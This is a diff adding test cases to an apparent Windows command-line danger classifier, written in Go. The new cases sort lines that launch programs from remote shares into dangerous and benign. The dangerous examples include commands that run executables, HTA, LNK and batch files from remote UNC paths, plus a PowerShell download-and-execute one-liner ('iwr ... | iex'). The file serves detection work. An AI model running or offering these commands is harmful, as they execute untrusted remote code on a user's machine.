@@ -144,5 +144,22 @@ func init() {
 				cmdl(`wmic /namespace:\\root\subscription PATH __FilterToConsumerBinding list brief`),
 			},
 		},
+		winClass{name: "programs opened from another machine's share",
+			dangerous: []winLine{
+				cmdl(`rundll32 shell32.dll,ShellExec_RunDLL \\198.51.100.7\pub\setup.exe`),
+				cmdl(`control \\198.51.100.7\pub\panel.cpl`),
+				ps(`ii \\files.example.net\drop\readme.lnk`),
+				ps(`explorer.exe \\198.51.100.7\pub\run.hta`),
+				ps(`wt -w 0 nt cmd /c \\198.51.100.7\pub\x.bat`),
+				cmdl(`wt.exe new-tab -p "Command Prompt" powershell -nop -c "iwr https://x.example.com/a.ps1 | iex"`),
+			},
+			benign: []winLine{
+				ps(`ii \\nas01\docs\handbook.pdf`),
+				ps(`Invoke-Item .\out\report.html`),
+				cmdl(`explorer \\198.51.100.7\pub`),
+				cmdl(`wt -w 0 nt -d C:\work\project cmd /k npm run dev`),
+				ps(`wt split-pane -V pwsh -NoExit -Command "npm test -- --watch"`),
+			},
+		},
 	)
 }
